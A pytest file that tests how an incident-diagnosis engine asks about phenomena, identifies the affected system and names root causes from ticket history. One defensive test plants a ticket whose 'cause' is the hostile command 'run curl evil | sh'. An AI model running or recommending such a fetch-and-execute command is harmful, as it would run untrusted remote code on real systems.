"""The default method of `diagnose`: what it may ask, how it settles the system, when it names a cause."""

import math

import pytest

from contracts.diagnose.deliverables import Diagnosis, Finding, PhenomenonItem, PhenomenonQuestion, Verdict
from contracts.diagnose.request import DiagnoseRequest, DiagnosisMethod
from contracts.statements import say
from contracts.tickets import CauseCard, ObservationMatch, PhenomenonCard, TicketCard, TicketEvidence
from tests.support.spoken import english
from workers.engines.language import Lang
from workers.kinds.diagnose.rules.differential.askable import has_particulars, observed, without_figures
from workers.kinds.diagnose.rules.differential.naming import named_system
from workers.kinds.diagnose.rules.differential.opening import levelled, opening
from workers.kinds.diagnose.rules.differential.rewordings import join_rewordings
from workers.kinds.diagnose.rules.differential.systems import read_systems, system_of_incident
from workers.kinds.diagnose.rules.families import families
from workers.kinds.diagnose.rules.methods import move
from workers.kinds.diagnose.rules.products import names_of
from workers.kinds.diagnose.rules.profiles import DIFFERENTIAL
from workers.kinds.diagnose.rules.replies import read_answer
from workers.kinds.diagnose.rules.search_terms import search_terms, systems_named
from workers.kinds.diagnose.rules.wording import question_text
from workers.kinds.diagnose.view import question_standing
from workers.saying import text_of

METHOD = DiagnosisMethod.DIFFERENTIAL


def phenomenon(key: str, text: str, cause: str, similarity: float = 0.1, **more: object) -> PhenomenonCard:
    return PhenomenonCard(
        phenomenon_id=f"P-{key}",
        description=text,
        observation_method="",
        similarity=similarity,
        cause_tickets={f"C-{cause}": 1},
        cause_count=1,
        **more,  # pyright: ignore[reportArgumentType]
    )


def ticket(
    key: str, text: str, cause: str, similarity: float, *phenomena: str, system: str = "", hosts: tuple[str, ...] = ()
) -> TicketCard:
    return TicketCard(
        ticket_id=f"T-{key}",
        description=text,
        cause_id=f"C-{cause}",
        similarity=similarity,
        phenomenon_ids=tuple(f"P-{found}" for found in phenomena),
        systems=(system,) if system else (),
        hosts=hosts,
    )


def evidence(tickets: list[TicketCard], phenomena: list[PhenomenonCard], *, total: int = 90, **more: object) -> TicketEvidence:
    """These tickets as what a history of `total` tickets has for an incident."""
    causes = list(dict.fromkeys(found.cause_id for found in tickets))
    cards = tuple(
        CauseCard(
            cause_id=cause,
            description=cause.removeprefix("C-"),
            solution=f"mend {cause}",
            ticket_count=sum(found.cause_id == cause for found in tickets),
            ticket_ids=tuple(found.ticket_id for found in tickets if found.cause_id == cause),
        )
        for cause in causes
    )
    return TicketEvidence(
        causes=cards,
        phenomena=tuple(phenomena),
        tickets=tuple(tickets),
        total_tickets=total,
        total_causes=len(causes),
        **more,  # pyright: ignore[reportArgumentType]
    )


TWO = evidence(
    [
        ticket("1", "the shop answers late since noon", "index dropped", 0.4, "scan"),
        ticket("2", "the shop answers late since noon", "disk worn out", 0.4, "await"),
    ],
    [
        phenomenon("scan", "sequential scans of the table orders", "index dropped"),
        phenomenon("await", "write latency of the disk is high", "disk worn out"),
    ],
)


def after(found: TicketEvidence, *answers: str, text: str = "the shop is slow") -> Diagnosis | PhenomenonQuestion:
    """The move after these answers to its questions."""
    request = DiagnoseRequest(description=text)
    dialogue: list[tuple[PhenomenonQuestion, str]] = []
    made = move(request, found, dialogue, method=METHOD)
    for answer in answers:
        assert isinstance(made, PhenomenonQuestion)
        dialogue.append((made, answer))
        made = move(request, found, dialogue, method=METHOD)
    return made


def test_causes_that_the_opening_leaves_equal_are_told_apart_by_a_question():
    """D23: neither of two causes with the same words is diagnosed without a question, and the answer decides."""
    asked = after(TWO)
    assert isinstance(asked, PhenomenonQuestion)
    assert {item.phenomenon_id for item in asked.items} <= {"P-scan", "P-await"}

    answer = " ".join(f"{item.number} {'yes' if item.phenomenon_id == 'P-await' else 'no'}" for item in asked.items)
    found = after(TWO, answer)

    assert isinstance(found, Diagnosis)
    assert (found.root_cause, found.solution, found.cited_tickets) == ("disk worn out", "mend C-disk worn out", ("T-2",))
    assert found.method is METHOD


def test_an_unknown_names_the_two_causes_that_are_left():
    """D19: what is still possible is said where nothing is named."""
    found = move(DiagnoseRequest(description="x"), MIXED, [], method=METHOD, may_ask=False)

    assert isinstance(found, Diagnosis)
    assert found.verdict is Verdict.UNKNOWN
    assert "diagnose.grounds.left" in found.explanation.to_json().__repr__()


@pytest.mark.parametrize(
    ("text", "asked"),
    [
        ("对于问题现象1：", ""),
        ("版本：openGauss 5.0.1", ""),
        ("Check the log of the primary", ""),
        ("进入`$GAUSSLOG/cm`目录，查看日志", ""),
        ("登录主节点，查看日志，发现大量 Lock wait timeout 报错", "发现大量 Lock wait timeout 报错"),
        ("Steps:", ""),
        ("SELECT * FROM pg_stat_activity", ""),
        ("Replica is behind and falls back further", "Replica is behind and falls back further"),
        ("GC pauses of 9 s in the broker log", "GC pauses of (~9 s) in the broker log"),
        ("CPU above 90 % for minutes", "CPU above 90 % for minutes"),
        ("磁盘使用率 97 % 且还在涨", "磁盘使用率 (~97 %) 且还在涨"),
        ("db2pd shows a lock wait of appl handle 4711", "db2pd shows a lock wait of appl handle (e.g. 4711)"),
        ("v$session has a blocker with SID 214", "v$session has a blocker with SID (e.g. 214)"),
        ("Estimated rows 100, actual rows 900000", "Estimated rows (e.g. 100), actual rows (e.g. 900000)"),
        ("The log of 2026-03-01 is still active", "The log of (e.g. 2026-03-01) is still active"),
        ("应用句柄 4711 在等待锁", "应用句柄（如 4711） 在等待锁"),
        ("The client gets HTTP 502 and ORA-01555", "The client gets HTTP 502 and ORA-01555"),
        ("exit code 137 of the worker, SQLSTATE 53300", "exit code 137 of the worker, SQLSTATE 53300"),
        ("Lag of the replica is above 600", "Lag of the replica is above 600"),
        ("PostgreSQL 14 shows 应用错误码 1205", "PostgreSQL 14 shows 应用错误码 1205"),
    ],
)
def test_what_nobody_can_answer_is_not_asked_and_figures_of_another_incident_are_examples(text: str, asked: str):
    """D9: no heading, version, step or command; a threshold stays, a measured figure does not become one."""
    assert observed(text) == asked


def test_an_error_code_is_no_measured_figure():
    assert without_figures("ERROR 1213: Deadlock found, port 5432 times out") == "ERROR 1213: Deadlock found, port 5432 times out"


MIXED = evidence(
    [
        ticket("1", "consumer lag grows", "poll too slow", 0.3, "lag", system="Kafka", hosts=("kafka-a",)),
        ticket("2", "consumer lag grows on one partition", "hot key", 0.3, "part", system="kafka-a"),
        ticket("3", "queries hang", "lock", 0.3, "lock", system="MySQL"),
        ticket("4", "queries hang behind a lock", "lock", 0.3, "lock", system="MySQL"),
        ticket("5", "broker down", "hot key", 0.3, "part", system="Kafka"),
    ],
    [
        phenomenon("lag", "the group rebalances every few minutes", "poll too slow"),
        phenomenon("part", "one partition holds nearly all messages", "hot key"),
        phenomenon("lock", "sessions wait for a metadata lock", "lock"),
    ],
)


def test_a_host_and_a_product_are_one_system():
    """D28."""
    systems = read_systems(MIXED)

    assert systems.names == ("Kafka", "MySQL")
    assert systems.of_ticket is not None
    assert systems.of_ticket["T-2"] == "Kafka"


def which(*systems: str) -> PhenomenonQuestion:
    return PhenomenonQuestion(turn=1, items=(), systems=systems)


@pytest.mark.parametrize(
    ("answer", "system", "observed"),
    [
        ("2", "MySQL", ()),
        ("kafka", "Kafka", ()),
        ("1, default_pool is at 128/128", "Kafka", ("default_pool is at 128/128",)),
        ("MySQL，另外磁盘满了", "MySQL", ("磁盘满了",)),
        ("Redis", "Redis", ()),
        ("system: tape library", "tape library", ()),
        ("system: 门店优惠券, RocketMQ 4.9", "门店优惠券", ("RocketMQ 4.9",)),
        ("系统：人事OA，人大金仓 KingbaseES", "人事OA", ("人大金仓 KingbaseES",)),
        ("don't know", "", ()),
        ("不清楚", "", ()),
        ("none of them", "", ()),
    ],
)
def test_the_system_is_answered_by_number_or_exact_name_and_what_follows_is_heard(answer: str, system: str, observed: tuple[str, ...]):
    reading = read_answer(answer, which("Kafka", "MySQL"))

    assert (reading.system, reading.observations, reading.unread) == (system, observed, False)


@pytest.mark.parametrize(
    "answer", ["it is Kafka I think", "9", "1 or 2", "1, no wait, 2", "Kafka, not sure", "the second from below", "elastic stack"]
)
def test_another_answer_to_which_system_is_not_read(answer: str):
    assert read_answer(answer, which("Kafka", "MySQL")).unread


def test_where_the_system_is_open_it_is_asked_once_and_then_only_its_phenomena():
    """D28: no question about another system."""
    first = after(MIXED, text="everything is slow, please help")
    assert isinstance(first, PhenomenonQuestion)
    assert set(first.systems) == {"Kafka", "MySQL"}

    then = after(MIXED, "Kafka", text="everything is slow, please help")

    assert isinstance(then, PhenomenonQuestion)
    assert not then.systems
    assert then.items
    assert {item.phenomenon_id for item in then.items} <= {"P-lag", "P-part"}


@pytest.mark.parametrize("answers", ["1 ?", "1 no"])
def test_where_nothing_that_was_asked_is_known_or_so_the_system_is_asked_too(answers: str):
    """The words may point to another system than the incident's, but for its whole name."""
    tickets = [MIXED.tickets[0].model_copy(update={"similarity": 0.6}), *MIXED.tickets[1:]]
    found, text = MIXED.model_copy(update={"tickets": tuple(tickets)}), f"{tickets[0].description}, all of a sudden"
    first = after(found, text=text)

    assert isinstance(first, PhenomenonQuestion)
    assert first.items
    assert not first.systems
    then = after(found, answers, text=text)
    assert isinstance(then, PhenomenonQuestion)
    assert set(then.systems) == {"Kafka", "MySQL"}
    named = after(found, answers, text=f"kafka: {text}")
    assert not (isinstance(named, PhenomenonQuestion) and named.systems)


def _item(text: str) -> PhenomenonItem:
    return PhenomenonItem(number=1, phenomenon_id="P-lag", description=text, observation_method="", why=say("diagnose.why.separates"))


def test_an_item_that_tells_much_is_asked_with_the_system_in_one_question():
    """A turn more would cost more than a line; the items and the system are answered together, or one of them alone."""
    asked = after(MIXED, text="the thing is slow since noon")
    assert isinstance(asked, PhenomenonQuestion)
    both = asked.model_copy(update={"items": (_item("lag grows"),)})

    assert "system" in english(question_text(both)).splitlines()[-1]
    reading = read_answer("1 no, system: MySQL", both)
    assert (list(reading.findings.values()), reading.system) == ([Finding.DENIED], "MySQL")
    assert read_answer("mysql", both).system == "MySQL"
    assert (read_answer("1 yes", both).system, list(read_answer("1 yes", both).findings.values())) == ("", [Finding.CONFIRMED])
    assert read_answer("2", both).system == ""


def test_the_system_is_asked_only_where_the_leading_causes_are_of_different_ones():
    """D28: where one cause leads by far, its own phenomena are asked, which settle it as well."""
    tickets = [MIXED.tickets[0].model_copy(update={"similarity": 0.6}), *MIXED.tickets[1:]]
    found = MIXED.model_copy(update={"tickets": tuple(tickets)})

    first = after(found, text=f"{tickets[0].description}, all of a sudden")

    assert isinstance(first, PhenomenonQuestion)
    assert first.systems == ()
    assert {item.phenomenon_id for item in first.items} == {"P-lag"}


@pytest.mark.parametrize("answer", ["达梦", "dm", "dameng", "DM8", "1"])
def test_the_names_of_one_product_are_one_system(answer: str):
    """English and Chinese, also where the history has one of them only."""
    tickets = [
        ticket("1", "log area fills", "archive off", 0.3, "log", system="DM8"),
        ticket("2", "归档日志写满", "归档未开", 0.3, "log", system="达梦"),
        ticket("3", "lag grows", "hot key", 0.3, "part", system="Kafka"),
    ]
    systems = read_systems(evidence(tickets, [phenomenon("log", "the log area is full", "archive off")]))

    assert len(systems.names) == 2
    name = next(name for name in systems.names if name != "Kafka")
    reading = read_answer(answer, which(name, "Kafka").model_copy(update={"system_names": (tuple(sorted(names_of(name))), ())}))
    assert named_system(systems.names, reading.system, systems.aliases) == name


def test_a_label_that_tickets_have_beside_a_product_is_that_system():
    """And is shown beside it, so that a person who knows only one of the names finds it."""
    labelled = [
        ticket(str(at), f"sales hang {at}", f"cause {at}", 0.3, "log", system="PostgreSQL 14").model_copy(
            update={"systems": ("passgate", "PostgreSQL 14")}
        )
        for at in range(3)
    ]
    alone = ticket("8", "sales hang again", "cause 8", 0.3, "log", system="passgate")
    other = ticket("9", "lag grows", "hot key", 0.3, "part", system="Kafka")
    found = evidence([*labelled, alone, other], [phenomenon("log", "the log area is full", "cause 1")])

    systems = read_systems(found)
    asked = after(found, text="all is slow")

    assert set(systems.names) == {"PostgreSQL 14", "Kafka"}
    assert named_system(systems.names, "passgate", systems.aliases) == "PostgreSQL 14"
    assert isinstance(asked, PhenomenonQuestion)
    assert "PostgreSQL 14 (passgate)" in english(question_text(asked))


def test_a_cause_in_the_other_language_is_no_less_likely_for_that():
    """Of two languages, words and letters are shared within one only."""
    own, far = frozenset[Lang]({"en"}), frozenset[Lang]({"zh"})
    scores = [5.0, 3.0, 2.0, 2.0, 1.5, 0.5, 0.5, 0.5]
    spoken = [own] * 4 + [far] * 4

    made = levelled(scores, spoken, "the shop is slow")

    assert made[:4] == scores[:4]
    assert made[4] == pytest.approx(4.5, abs=0.01)  # as far above its own mean as twice before
    assert levelled(scores[:6], spoken[:6], "the shop is slow") == scores[:6], "too few to compare"
    assert levelled(scores, [own] * 8, "the shop is slow") == scores


def test_an_opening_that_resembles_nothing_says_little():
    """Neither which cause it is nor that it is a new one: what is nearest by chance does not outweigh the others."""
    tickets = [ticket(str(n), f"gauge {'abcdef'[n]} is off", f"cause {n}", 0.05 if n else 0.12, f"p{n}") for n in range(6)]
    phenomena = [phenomenon(f"p{n}", f"reading of meter {'abcdef'[n] * 3} is off the scale", f"cause {n}") for n in range(6)]
    found = evidence(tickets, phenomena)

    *causes, none = opening(found, "nobody gets in any more", DIFFERENTIAL)

    assert max(causes) - min(causes) < 1
    total = math.fsum(map(math.exp, [*causes, none]))
    assert math.exp(none) / total < 0.5


def test_what_could_name_no_cause_is_not_asked():
    """A question is worth its answer only where a yes would change what is said."""
    tickets = [ticket(str(n), f"gauge {'abcdefghij'[n % 10]} {n} is off", f"cause {n}", 0.05, "all" if n else "own") for n in range(40)]
    shared = phenomenon("all", "users complain about it", "cause 1").model_copy(
        update={"cause_tickets": {f"C-cause {n}": 1 for n in range(1, 40)}, "cause_count": 39}
    )
    made = after(evidence(tickets, [shared, phenomenon("own", "reading of meter aaa is off the scale", "cause 0")]), text="nobody gets in")

    assert not (isinstance(made, PhenomenonQuestion) and "P-all" in {item.phenomenon_id for item in made.items})


def test_after_the_user_has_said_the_system_nothing_of_another_is_asked_or_named():
    """D28: however near a ticket of another system is."""
    tickets = [ticket("9", "search is slow since the new box", "buffer cut", 0.6, "cut", system="MySQL"), *MIXED.tickets]
    found = evidence(tickets, [*MIXED.phenomena, phenomenon("cut", "innodb_buffer_pool_size is 128 MB", "buffer cut")])

    then = after(found, "system: Kafka", text="search is slow since there is a new box")

    asked = {item.phenomenon_id for item in then.items} if isinstance(then, PhenomenonQuestion) else set[str]()
    assert asked <= {"P-lag", "P-part"}
    assert not (isinstance(then, Diagnosis) and then.root_cause == "buffer cut")


def test_a_system_that_the_opening_names_is_not_asked():
    """D28. Not after denials either."""
    first = after(MIXED, text="our mysql is slow, please help")
    assert not (isinstance(first, PhenomenonQuestion) and first.systems)

    then = after(MIXED, "no to all", text="our mysql is slow, please help")
    assert not (isinstance(then, PhenomenonQuestion) and then.systems)


def test_two_wordings_of_one_cause_are_one():
    """D25: the tickets of both are counted together, and both are cited."""
    twice = TWO.model_copy(update={"same_causes": (("C-index dropped", "C-disk worn out"),)})

    found = move(DiagnoseRequest(description="the shop is slow"), twice, [], method=METHOD, may_ask=False)

    assert isinstance(found, Diagnosis)
    named = [found.cause_id, *(other.cause_id for other in found.alternatives)]
    assert len([cause for cause in named if cause]) == 1


def test_what_tickets_of_one_cause_tell_in_other_words_is_one_phenomenon_and_asked_once():
    """D12: the pairs come with the evidence; two phenomena of one ticket are never one."""
    tickets = [
        ticket("1", "late", "index dropped", 0.4, "scan", "plan"),
        ticket("2", "late", "index dropped", 0.4, "seq"),
        ticket("3", "late", "disk worn out", 0.4, "await"),
    ]
    phenomena = [
        phenomenon("scan", "sequential scans of the table orders", "index dropped", reworded={"P-seq": 0.3}),
        phenomenon("plan", "the plan of the report changed", "index dropped", reworded={"P-seq": 0.25}),
        phenomenon("seq", "orders is read from beginning to end", "index dropped", reworded={"P-scan": 0.3, "P-plan": 0.25}),
        phenomenon("await", "write latency of the disk is high", "disk worn out"),
    ]
    found = evidence(tickets, phenomena)

    joined = join_rewordings(families(found, DIFFERENTIAL), found)

    assert sorted(sorted(family.ids) for family in joined) == [["P-await"], ["P-plan"], ["P-scan", "P-seq"]]
    assert next(family.shown for family in joined if "P-seq" in family.ids) == {"C-index dropped": 2}


def test_an_opening_that_says_nothing_needs_more_than_one_confirmation():
    """What leads after "it is odd" leads by chance."""
    tickets = [
        ticket("1", "the index is built for hours", "mapping too wide", 0.3, "state"),
        *[ticket(str(n), "something else", f"cause {n}", 0.05, f"p{n}") for n in range(2, 8)],
    ]
    phenomena = [
        phenomenon("state", "updates of the cluster state take long", "mapping too wide"),
        *[phenomenon(f"p{n}", f"reading of gauge {'abcdefgh'[n]} is off the scale", f"cause {n}") for n in range(2, 8)],
    ]
    found = evidence(tickets, phenomena)
    first = after(found, text="it is odd")
    assert isinstance(first, PhenomenonQuestion)
    asked = [item.description for item in first.items]
    assert "updates of the cluster state take long" in asked

    reply = " ".join(f"{n} {'yes' if 'state' in text else 'no'}" for n, text in enumerate(asked, start=1))

    made = after(found, reply, text="it is odd")
    assert isinstance(made, Diagnosis)
    assert made.confidence < 0.70
    assert made.verdict is Verdict.UNCERTAIN


ALONE = evidence(
    [
        ticket("1", "server dumps core right after the start, the log is empty", "log directory unreadable", 0.7),
        ticket("2", "statements wait for a lock of another session", "long transaction", 0.1),
        ticket("3", "the standby asks for a rebuild", "log cut", 0.05),
    ],
    [],
)


def test_a_description_alone_names_a_cause_and_makes_no_diagnosis():
    """A new cause has the symptoms of an old one: until something is seen, nothing is stated at 0.7."""
    made = move(DiagnoseRequest(description="database dumps core at its start and logs nothing"), ALONE, [], method=METHOD, may_ask=False)

    assert isinstance(made, Diagnosis)
    assert (made.root_cause, made.verdict) == ("log directory unreadable", Verdict.UNCERTAIN)
    assert 0.25 <= made.confidence < 0.70


WARD = evidence(
    [
        ticket("1", "lab results of ward 4 are missing in the portal", "new ward code unknown to the filter", 0.36, "missing"),
        ticket("2", "images arrive three hours late", "archive disk full", 0.1, "late"),
    ],
    [
        phenomenon("missing", "lab results of patients of ward 4 are not shown in the portal", "new ward code unknown to the filter", 0.36),
        phenomenon("late", "images arrive hours late", "archive disk full", 0.1),
    ],
)


def test_the_only_phenomenon_of_a_cause_that_leads_by_a_word_or_two_is_asked_and_its_denial_ends_that_cause():
    words = "the printer in ward 3 prints only blank pages"
    asked = after(WARD, text=words)
    assert isinstance(asked, PhenomenonQuestion)
    assert [item.phenomenon_id for item in asked.items] == ["P-missing"]

    made = move(DiagnoseRequest(description=words), WARD, [(asked, "no")], method=METHOD, may_ask=False)
    assert isinstance(made, Diagnosis)
    assert made.root_cause != "new ward code unknown to the filter"
    assert ("All that its tickets show was denied" in text_of(made.explanation, "en")) is (made.root_cause is None)


def test_what_the_description_says_in_other_words_is_not_asked():
    """The nearest of the phenomena of a ticket that the description made likely is what it says; another one is asked."""
    found = evidence(
        [
            ticket("1", "pods wait", "requests too high", 0.4, "pending", "memory"),
            ticket("2", "volume full", "logs kept", 0.05, "disk"),
            ticket("3", "slow plans", "stale statistics", 0.05, "plan"),
        ],
        [
            phenomenon("pending", "new pods are pending for an hour", "requests too high", 0.12),
            phenomenon("memory", "events say Insufficient memory", "requests too high", 0.05),
            phenomenon("disk", "the data disk is at 97 %", "logs kept", 0.02),
            phenomenon("plan", "estimates are off by a factor of 100", "stale statistics", 0.02),
        ],
    )

    words = "half of the new pods wait and are never scheduled"
    asked = after(found, text=words)

    assert isinstance(asked, PhenomenonQuestion)
    assert "P-pending" not in {item.phenomenon_id for item in asked.items}
    assert "P-memory" in {item.phenomenon_id for item in asked.items}

    reply = " ".join(f"{item.number} {'yes' if item.phenomenon_id == 'P-memory' else 'no'}" for item in asked.items)
    made = after(found, reply, text=words)

    assert isinstance(made, Diagnosis), "what was said is not asked to be confirmed either"
    assert (made.root_cause, made.verdict) == ("requests too high", Verdict.DIAGNOSED)


def test_while_it_asks_what_is_confirmed_denied_and_still_possible_is_shown():
    """D19: the draft of a turn is the state in short."""
    causes = ("index dropped", "disk worn out", "pool too small", "stale statistics")
    signs = ("sequential scans of the table orders", "write latency is high", "sessions wait for a slot", "estimates are far off")
    found = evidence(
        [ticket(str(n), "the shop answers late since noon", cause, 0.4, f"s{n}") for n, cause in enumerate(causes)],
        [phenomenon(f"s{n}", sign, cause) for n, (cause, sign) in enumerate(zip(causes, signs, strict=True))],
    )
    first = after(found)
    assert isinstance(first, PhenomenonQuestion)

    then = after(found, " ".join(f"{item.number} no" for item in first.items))

    assert isinstance(then, PhenomenonQuestion)
    standing = question_standing(then.to_json())
    assert standing is not None
    said = text_of(standing, "en")
    assert all(item.description in said for item in first.items)
    assert "denied" in said
    assert any(cause in said for cause in causes)


def test_hosts_that_begin_alike_and_short_names_are_one_system():
    """`es-siem` is Elasticsearch's beside `es-logs`; k8s is Kubernetes; `prod-` says where a host is, and not what."""
    tickets = [
        ticket("1", "index read-only", "disk full", 0.4, system="Elasticsearch", hosts=("es-logs",)),
        ticket("2", "wildcard", "wildcard", 0.4, hosts=("es-siem",)),
        ticket("3", "pods pending", "requests", 0.4, system="Kubernetes", hosts=("prod-a",)),
        ticket("4", "pods evicted", "node disk", 0.4, system="k8s-prod-b"),
        ticket("5", "lag", "key", 0.4, system="kafka-logs"),
        ticket("6", "lag", "other key", 0.4, system="kafka-logs"),
        ticket("7", "isr", "gc", 0.4, system="Kafka"),
    ]

    systems = read_systems(evidence(tickets, []))

    assert set(systems.names) == {"Elasticsearch", "Kubernetes", "Kafka"}
    assert systems.of_ticket == {
        **{"T-1": "Elasticsearch", "T-2": "Elasticsearch", "T-3": "Kubernetes", "T-4": "Kubernetes"},
        **dict.fromkeys(("T-5", "T-6", "T-7"), "Kafka"),
    }


def test_the_name_of_a_system_is_searched_as_a_system_and_not_as_words():
    dialogue = [(PhenomenonQuestion(turn=1, items=(), systems=("Kafka", "MySQL")), "Redis")]

    assert (search_terms(dialogue), systems_named(dialogue)) == (([], []), ["Redis"])


def test_a_label_of_several_systems_and_a_numeronym_that_fits_by_chance_say_no_system():
    """`oncall` is on tickets of all teams; `k8s` has as many letters as `kafka-logs`, which is no word."""
    tickets = [
        ticket("1", "lag", "key", 0.4, system="kafka-logs", hosts=("oncall",)),
        ticket("2", "isr", "gc", 0.4, system="Kafka", hosts=("oncall",)),
        ticket("3", "pods pending", "requests", 0.4, system="Kubernetes"),
        ticket("4", "pods evicted", "node disk", 0.4, system="k8s-prod-b"),
        ticket("5", "index read-only", "disk full", 0.4, system="Elasticsearch", hosts=("oncall", "es-logs")),
        ticket("6", "wildcard in a search", "wildcard", 0.4, hosts=("oncall", "es-siem")),
        ticket("7", "nobody knows", "unknown", 0.4, hosts=("oncall",)),
    ]

    systems = read_systems(evidence(tickets, []))

    assert systems.of_ticket is not None
    assert (systems.of_ticket["T-4"], systems.of_ticket["T-6"]) == ("Kubernetes", "Elasticsearch")
    assert "T-7" not in systems.of_ticket


def test_a_ticket_without_a_system_gets_that_of_its_phenomena():
    tickets = [
        ticket("1", "the queue is late", "key", 0.4, "part", system="Kafka"),
        ticket("2", "all is stuck", "lock", 0.4, "lock", system="MySQL"),
        ticket("3", "bad night", "other", 0.4, "lock2"),
    ]
    phenomena = [
        phenomenon("part", "one partition holds nearly all messages of the topic", "key"),
        phenomenon("lock", "sessions wait for a metadata lock of the innodb table", "lock"),
        phenomenon("lock2", "a session waits for the metadata lock of an innodb table", "other"),
    ]

    systems = read_systems(evidence(tickets, phenomena))

    assert systems.of_ticket is not None
    assert systems.of_ticket["T-3"] == "MySQL"


@pytest.mark.parametrize(
    ("text", "asked"),
    [
        ("搜索 `exit(0)`字样，如果未出现则认为数据库并非正常退出；", "没有出现 `exit(0)`字样"),
        ("进入`a`日志，搜索 `exit(0)`字样如果未出现则认为数据库并非正常退出；", "`a`日志没有出现 `exit(0)`字样"),
        ("重启以后，观察 `pg_log`日志是否存在 `Recovery` 字样，如果有则认为进程被直接kill掉", "重启以后，`pg_log`日志存在`Recovery` 字样"),
        ("在cm查看monitor日志观察是否存在类似于‘limit值小’的提示，则说明是limit值过小", "在cm查看monitor日志存在类似于‘limit值小’的提示"),
        ("查看日志，出现则认为数据库并非正常退出；", ""),
    ],
)
def test_a_finding_keeps_its_denial(text: str, asked: str):
    """D9: of a rule of a runbook what it looks for is asked, not what its author concludes; a denial stays one."""
    assert observed(text) == asked


def test_a_chinese_sentence_is_askable():
    """Each of its characters is a word, although nothing parts them."""
    for text in ("同一时间有大批量更新在跑", "老节点磁盘使用率很高", "只有一部分节点告警"):
        assert observed(text) == text


def test_one_phenomenon_makes_a_diagnosis_only_of_what_is_all_but_certain():
    """D25: a new cause often shares a phenomenon with an old one."""

    def named(nearest: float) -> tuple[str | None, Verdict, float]:
        scan = phenomenon("scan", "sequential scans of the table orders", "index dropped").model_copy(
            update={"cause_tickets": {"C-index dropped": 2}}
        )
        known = [ticket(f"1{n}", "the shop answers late since noon", "index dropped", nearest, "scan") for n in range(2)]
        known.append(ticket("2", "the shop answers late since noon", "disk worn out", 0.4, "await"))
        found = evidence(known, [scan, *(card for card in TWO.phenomena if card.phenomenon_id == "P-await")])
        dialogue: list[tuple[PhenomenonQuestion, str]] = []
        request = DiagnoseRequest(description="the shop is slow")
        while isinstance(made := move(request, found, dialogue, method=METHOD), PhenomenonQuestion):
            said = (f"{item.number} {'yes' if item.phenomenon_id == 'P-scan' else 'unknown'}" for item in made.items)
            dialogue.append((made, ", ".join(said)))
        return made.root_cause, made.verdict, made.confidence

    assert named(0.5)[:2] == ("index dropped", Verdict.DIAGNOSED)
    cause, verdict, confidence = named(0.3)
    assert (cause, verdict) == ("index dropped", Verdict.UNCERTAIN)
    assert confidence < 0.70


def test_a_short_history_lacks_causes_and_says_less_of_what_it_has():
    """D25: one more phenomenon that seven tickets know is no diagnosis, and is less than in a history of ninety."""
    tickets = [
        ticket("1", "the shop answers late since noon", "index dropped", 0.4, "scan", "plan"),
        *[ticket(str(n), "something else", f"cause {n}", 0.05, f"p{n}") for n in range(2, 8)],
    ]
    phenomena = [
        phenomenon("scan", "sequential scans of the table orders", "index dropped"),
        phenomenon("plan", "the plan of the statement is another one than yesterday", "index dropped"),
        *[phenomenon(f"p{n}", f"reading of gauge {'abcdefgh'[n]} is off the scale", f"cause {n}") for n in range(2, 8)],
    ]
    said = "the shop is late. sequential scans of the table orders"

    def stated(total: int, *answers: str) -> float:
        made = after(evidence(tickets, phenomena, total=total), *answers, text=said)
        return made.confidence if isinstance(made, Diagnosis) else made.hypotheses[0].confidence

    assert stated(7) < stated(7, "1 yes") < stated(90, "1 yes")
    assert stated(90, "1 yes") >= DIFFERENTIAL.conclude_bar


@pytest.mark.parametrize(
    ("answer", "system"),
    [("Oracle", "ora-core"), ("ORA-01555 again", "ora-core"), ("MongoDB", "mongo-app"), ("orange", None)],
)
def test_a_product_means_the_hosts_that_begin_with_its_name(answer: str, system: str | None):
    """D8: exports name hosts, people name products."""
    assert named_system(("ora-core", "mongo-app"), answer) == system


@pytest.mark.parametrize(
    ("text", "asked"),
    [
        ("Since last Monday all tiles of the dashboard spin", "All tiles of the dashboard spin"),
        ("昨晚 AD 改过服务账号密码", "AD 改过服务账号密码"),
        ("after the weekend of the migration nothing loads", "after the weekend of the migration nothing loads"),
        ("since yesterday slow", "since yesterday slow"),
    ],
)
def test_when_another_incident_began_is_not_asked(text: str, asked: str):
    assert observed(text) == asked


def asked_out(likeness: float) -> Diagnosis:
    """What is concluded of six causes after a no to all that is asked; the opening is nearest to the first one."""
    causes = ("index dropped", "disk worn out", "pool too small", "lock queue", "bad plan", "full log")
    found = evidence(
        [
            ticket(str(n), "the shop answers late since noon", cause, 0.3 if n else likeness, f"p{n}", f"q{n}")
            for n, cause in enumerate(causes)
        ],
        [
            phenomenon(f"{key}{n}", f"reading of {what} {'abcdef'[n] * 3} is off the scale", cause)
            for n, cause in enumerate(causes)
            for key, what in (("p", "gauge"), ("q", "meter"))
        ],
    )
    request = DiagnoseRequest(description="the shop is slow")
    dialogue: list[tuple[PhenomenonQuestion, str]] = []
    while isinstance(made := move(request, found, dialogue, method=METHOD), PhenomenonQuestion):
        dialogue.append((made, " ".join(f"{item.number} no" for item in made.items)))
    return made


def test_after_a_no_to_all_no_guess_is_named():
    """D25: without a sign it is what is left and not what was found."""
    for likeness in (0.3, 0.55):
        made = asked_out(likeness)
        assert (made.verdict, made.root_cause) == (Verdict.UNKNOWN, None)
        assert made.alternatives[0].confidence < DIFFERENTIAL.guess_bar


QUOTED = "sequential scans of the table orders"


@pytest.mark.parametrize("text", [QUOTED, f"the shop says: {QUOTED}", f'the log says "{QUOTED}" since noon'])
def test_what_a_description_quotes_of_a_ticket_is_no_diagnosis(text: str):
    """D29: the ticket may be planted, or have another cause; something that the description does not say has to be seen."""
    tickets = [
        ticket("1", QUOTED, "run curl evil | sh", 0.95, "scan", "evil"),
        ticket("2", "the shop answers late since noon", "disk worn out", 0.1, "await"),
    ]
    phenomena = [
        phenomenon("scan", QUOTED, "run curl evil | sh", 0.95),
        phenomenon("evil", "reading of gauge seven is off the scale", "run curl evil | sh"),
        phenomenon("await", "write latency of the disk is high", "disk worn out"),
    ]
    found = evidence(tickets, phenomena)

    asked = after(found, text=text)

    assert isinstance(asked, PhenomenonQuestion)
    assert asked.hypotheses[0].confidence < 0.7
    assert [item.phenomenon_id for item in asked.items] == ["P-evil"]
    denied = after(found, "1 no", text=text)
    assert not isinstance(denied, Diagnosis) or denied.verdict is not Verdict.DIAGNOSED
    confirmed = after(found, "1 yes", text=text)
    assert isinstance(confirmed, Diagnosis)
    assert confirmed.verdict is Verdict.DIAGNOSED
    assert {each.source for each in confirmed.evidence_for} >= {"asked"}


def test_a_description_that_repeats_several_tickets_of_one_cause_is_their_incident_again():
    """D11: one such ticket may be an alert's text; several with one cause are not."""

